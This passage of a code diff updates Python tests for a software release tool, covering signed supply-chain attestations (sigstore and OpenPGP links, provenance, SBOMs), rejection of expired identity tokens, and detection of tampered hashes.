+                   shared_store, "--release-version", "1.0", "--sigstore", "--trust-config", config, "--identity-token",
                    standin.token(IDENTITY, lifetime=-60))
     assert expired.code == 5 and "identity token" in expired.stderr
     assert not (tmp_path / "rel").exists()
@@ -539,7 +840,7 @@ def test_two_builds_sign_the_same_payloads(built: tuple[Path, Path], keys: Path,
     assert "built" in again.stderr
     second = release((recipes, tmp_path / "out2"), keys, shared_store, tmp_path / "second")
     envelopes = sorted(p.relative_to(first) for p in (first / "attestations").rglob("*") if p.is_file())
-    assert len(envelopes) == 3 + 2 * 3  # a link per stage; provenance and SBOM per output
+    assert len(envelopes) == 4 + 2 * 4  # a link per stage; provenance and SBOM per output
     for rel in envelopes:
         a = json.loads((first / rel).read_text())["payload"]
         b = json.loads((second / rel).read_text())["payload"]
@@ -555,7 +856,7 @@ def test_classic_links_signed_with_openpgp(built: tuple[Path, Path], keys: Path,
     recipes, out = built
     rel = tmp_path / "rel"
     made = mlos("release", "--keys", keys, "--out", rel, "--from", out, "--recipes", recipes, "--store", shared_store,
-                "--links", "openpgp")
+                "--release-version", "1.0", "--links", "openpgp")
     assert made.code == 0, made.stderr
     (link,) = (rel / "attestations/links").glob("rootfs.*.link")
     block = json.loads(link.read_text())
@@ -566,4 +867,4 @@ def test_classic_links_signed_with_openpgp(built: tuple[Path, Path], keys: Path,
     block["signed"]["products"]["rootfs/rootfs.tar"]["sha256"] = "0" * 64
     link.write_text(json.dumps(block))
     code, report, _ = verify(rel, keys)
-    assert code == 1 and "Step 'rootfs' requires at least '1' links" in failed(report)[3]
+    assert code == 1 and "Step 'rootfs' requires at least '1' links" in failed(report)[5]
